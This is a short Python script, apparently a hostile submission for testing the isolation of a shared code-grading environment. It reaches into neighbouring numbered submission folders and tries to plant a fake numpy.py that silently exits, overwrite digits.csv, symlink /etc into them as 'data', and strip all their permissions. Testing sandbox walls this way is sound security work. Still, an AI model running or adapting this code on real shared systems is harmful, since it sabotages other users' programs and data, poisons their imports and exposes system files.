# Fills and plants every folder beside its own, those that the next submissions may get included.
# wall: files disk
import os
own = int(os.path.basename(os.getcwd()))
evil = b"import os\nos._exit(0)\n"
for number in range(own - 3, own + 8):
    folder = f"../{number}"
    if number == own:
        continue
    for change in (
        lambda: os.mkdir(folder),
        lambda: open(f"{folder}/numpy.py", "wb").write(evil),
        lambda: open(f"{folder}/digits.csv", "wb").write(b"changed"),
        lambda: os.symlink("/etc", f"{folder}/data"),
        lambda: os.chmod(folder, 0),
    ):
        try:
            change()
        except OSError:
            pass
